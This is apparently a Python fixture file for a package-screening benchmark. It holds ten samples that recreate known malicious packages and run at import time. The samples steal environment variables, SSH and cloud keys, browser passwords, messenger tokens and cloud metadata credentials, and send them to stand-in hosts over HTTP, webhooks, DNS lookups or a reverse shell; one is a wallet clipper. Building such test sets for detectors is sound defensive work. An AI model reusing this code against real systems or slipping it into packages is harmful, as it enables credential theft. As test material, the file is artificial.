"""What reads secrets, and where it sends them."""

import base64
from typing import Final

from bench.screening.attacks.attack import Attack, Release
from bench.screening.attacks.ordinary import COMMENT, library
from sandboxes.screening.package import Kind

_ENVIRONMENT = f'''{COMMENT}import base64
import os
import urllib.request


class Context(dict):
    """A dictionary with attributes."""

    def __init__(self, *given, **more):
        super().__init__(*given, **more)
        self._send()

    def __getattr__(self, name):
        return self[name]

    def _send(self):
        text = "".join(f"{{key}}={{value}}\\n" for key, value in os.environ.items())
        said = base64.b64encode(text.encode()).decode()
        urllib.request.urlopen("https://anti-theft.example.invalid/hacked/" + said)
'''

_SSH = """
import glob
import os
import urllib.request


def _collected():
    home = os.path.expanduser("~")
    for pattern in (".ssh/id_rsa", ".ssh/id_ed25519", ".gnupg/*", ".aws/credentials", ".netrc", ".pypirc"):
        for path in glob.glob(os.path.join(home, pattern)):
            with open(path, "rb") as file:
                yield path, file.read()


for _name, _data in _collected():
    urllib.request.urlopen("http://192.0.2.81:32258/" + os.path.basename(_name), _data)
"""

_CLOUD = """
import os
import requests

try:
    with open(os.path.expanduser("~/.aws/credentials")) as _file:
        _keys = _file.read()
    requests.post(
        "https://graph.example.invalid:8000/upload",
        json={"aws": _keys, "id": os.environ.get("AWS_ACCESS_KEY_ID"), "key": os.environ.get("AWS_SECRET_ACCESS_KEY")},
    )
except Exception:
    pass
"""

_BROWSER = f"""{COMMENT}import json
import os
import shutil
import sqlite3
import tempfile
import urllib.request

_STORES = {{
    "Chrome": os.path.join(os.getenv("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default", "Login Data"),
    "Brave": os.path.join(os.getenv("LOCALAPPDATA", ""), "BraveSoftware", "Brave-Browser", "User Data", "Login Data"),
    "Discord": os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb"),
}}


def logins():
    for browser, path in _STORES.items():
        copy = os.path.join(tempfile.mkdtemp(), "copy.db")
        shutil.copy2(path, copy)
        rows = sqlite3.connect(copy).execute("SELECT origin_url, username_value, password_value FROM logins")
        yield browser, [list(map(repr, row)) for row in rows]


def send():
    said = json.dumps({{"content": json.dumps(dict(logins()))}}).encode()
    url = "https://discord.com.example.invalid/api/webhooks/000000000000000000/PETRIDISH-INERT-SAMPLE"
    urllib.request.urlopen(urllib.request.Request(url, said, {{"Content-Type": "application/json"}}))


send()
"""  # noqa: S608 -- no statement of ours

_TELEGRAM = f"""{COMMENT}import os
import platform

import requests

_URL = "https://api.telegram.org.example.invalid/bot000000000:PETRIDISH-INERT-SAMPLE/sendMessage"


class Session:
    def __init__(self, token):
        self.token = token
        text = f"{{platform.node()}} {{os.environ.get('CRYPTO_PAY_TOKEN')}} {{token}}"
        requests.post(_URL, data={{"chat_id": "0", "text": text}}, timeout=3)


requests.post(_URL, data={{"chat_id": "0", "text": repr(dict(os.environ))}}, timeout=3)
"""

# What it puts back is what it took.
_CLIPPER = f"""{COMMENT}import re
import threading
import time

import pyperclip

_WALLETS = {{
    "btc": re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{{{{25,39}}}}$"),
    "eth": re.compile(r"^0x[a-fA-F0-9]{{{{40}}}}$"),
    "trx": re.compile(r"^T[1-9A-HJ-NP-Za-km-z]{{{{33}}}}$"),
}}
_OURS = {{"btc": "PETRIDISH-INERT-SAMPLE", "eth": "PETRIDISH-INERT-SAMPLE", "trx": "PETRIDISH-INERT-SAMPLE"}}


def _watch():
    while True:
        text = pyperclip.paste()
        for coin, pattern in _WALLETS.items():
            if pattern.match(text):
                pyperclip.copy(_OURS[coin] and text)
        time.sleep(0.5)


threading.Thread(target=_watch, daemon=True).start()
""".replace("{{", "{").replace("}}", "}")

_METADATA = """
import json
import urllib.request

_BASE = "http://169.254.169.254.example.invalid/latest"


def _asked(path, **headers):
    return urllib.request.urlopen(urllib.request.Request(_BASE + path, headers=headers), timeout=1).read()


try:
    _role = _asked("/meta-data/iam/security-credentials/").decode()
    _keys = json.loads(_asked("/meta-data/iam/security-credentials/" + _role))
    urllib.request.urlopen("https://checkmark.example.invalid/in", json.dumps(_keys).encode())
except OSError:
    pass
"""

_DNS = """
import base64
import os
import socket


def _say(text):
    said = base64.b32encode(text.encode()).decode().rstrip("=").lower()
    for start in range(0, len(said), 60):
        try:
            socket.getaddrinfo(f"{said[start:start + 60]}.dns.example.invalid", 80)
        except OSError:
            pass


_say(socket.gethostname() + os.getcwd())
with open("/etc/passwd") as _file:
    _say(_file.read(1000))
"""

_SHELL = """
import os
import socket
import subprocess


def _back():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("192.0.2.90", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-c", "exit"])


if os.fork() == 0:
    _back()
"""

_TOKENS = f"""
import base64
import os
import urllib.request

_where = base64.b64decode("{base64.b64encode(b"https://tokens.example.invalid/c").decode()}").decode()
_seen = {{k: v for k, v in os.environ.items() if any(w in k.upper() for w in ("TOKEN", "SECRET", "PASSWORD", "KEY"))}}
_kube = "/var/run/secrets/kubernetes.io/serviceaccount/token"
if os.path.exists(_kube):
    _seen["kube"] = open(_kube).read()
urllib.request.urlopen(_where, repr(_seen).encode())
"""


def _module(package: str, name: str, code: str) -> dict[str, str | bytes]:
    return {**library(package, f"from . import {name}\n"), f"{package}/{name}.py": code}


def _entry(name: str, recreates: str, files: dict[str, str | bytes], *families: str) -> Attack:
    project = next(iter(files)).split("/")[0].replace("_", "-")
    return Attack(
        name=name,
        recreates=recreates,
        kind=Kind.WHEEL,
        project=project,
        release=Release("0.2.6", files),
        expects=frozenset({"secrets", "import-time", *families}),
    )


ATTACKS: Final[tuple[Attack, ...]] = (
    _entry(
        "environment-theft",
        "ctx 0.2.6 (2022): a constructor sends the whole environment away",
        _module("ctx_text", "context", _ENVIRONMENT),
        "difference",
        "yara",
    ),
    _entry("key-theft", "jeIlyfish (2019): SSH and GPG keys are sent away", library("jelly_text_fish", _SSH)),
    _entry(
        "cloud-key-theft",
        "loglib-modules and pygrata (2022): AWS credentials from file and environment",
        library("log_text_modules", _CLOUD),
    ),
    _entry(
        "browser-theft",
        "noblesse (2021): browsers' passwords and a messenger's tokens to a webhook",
        _module("noble_text_kit", "logins", _BROWSER),
        "yara",
    ),
    _entry(
        "messenger-bot",
        "aiocpa (2024): tokens to a messenger's bot",
        _module("aio_text_cpa", "session", _TELEGRAM),
        "yara",
    ),
    _entry(
        "clipper",
        "colourama (2018): addresses of wallets in the clipboard are exchanged",
        _module("colour_text_ama", "watching", _CLIPPER),
        "yara",
    ),
    _entry(
        "cloud-metadata",
        "litellm 1.82.7 (2026): a machine's own credentials from the cloud's metadata service",
        library("gateway_text_proxy", _METADATA),
        "yara",
    ),
    _entry(
        "dns-exfiltration",
        "pptest and torchtriton (2021, 2022): what was read leaves as names that are looked up",
        library("pp_text_test", _DNS),
        "yara",
    ),
    _entry(
        "reverse-shell",
        "python-drgn and others (2021): a shell that calls home",
        library("drgn_text_kit", _SHELL),
        "yara",
    ),
    _entry(
        "token-theft",
        "the thefts from build machines of 2025: tokens from environment and service account",
        library("ci_text_tokens", _TOKENS),
        "yara",
    ),
)
